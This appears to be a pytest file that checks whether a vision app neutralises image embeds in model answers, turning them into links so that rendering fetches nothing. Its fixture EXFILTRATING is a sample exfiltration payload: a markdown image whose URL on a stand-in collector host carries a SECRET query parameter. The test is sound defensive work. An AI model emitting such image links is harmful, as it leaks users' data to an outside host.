"""Answers are untrusted: shown as markdown, an image in one is a link, never a fetch."""

from __future__ import annotations

import pytest

from vision.export.runs import export_markdown
from vision.markdown import answer_markdown, inert_images
from vision.values.run import Run

EXFILTRATING = "Done. ![x](https://collector.example/p.png?data=SECRET)"


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        (EXFILTRATING, "Done. 🖼 [x](https://collector.example/p.png?data=SECRET)"),
        ('![chart [v2]](http://h/c.png "title")', '🖼 [chart [v2]](http://h/c.png "title")'),
        ("![](http://h/blank.png)", "🖼 [image](http://h/blank.png)"),
        ("![logo][1]\n\n[1]: http://h/logo.png", "🖼 [logo][1]\n\n[1]: http://h/logo.png"),
        ("![ spaced ] (http://h/s.png)", "🖼 [ spaced ] (http://h/s.png)"),
        ("odd ![unclosed", "odd !\\[unclosed"),
    ],
)
def test_images_in_an_answer_become_links_to_open_by_choice(answer, shown):
    assert inert_images(answer) == shown
    assert "![" not in inert_images(answer)


def test_an_answer_keeps_its_links_text_and_money():
    assert answer_markdown("[docs](https://e.org) cost $5") == "[docs](https://e.org) cost \\$5"


def test_the_markdown_export_never_embeds_an_image_from_an_answer():
    run = Run(prompt="Describe ![p](http://h/p.png)", model="m", answer=EXFILTRATING)
    document = export_markdown([run])
    assert "![" not in document
    assert "🖼 [x](https://collector.example/p.png?data=SECRET)" in document
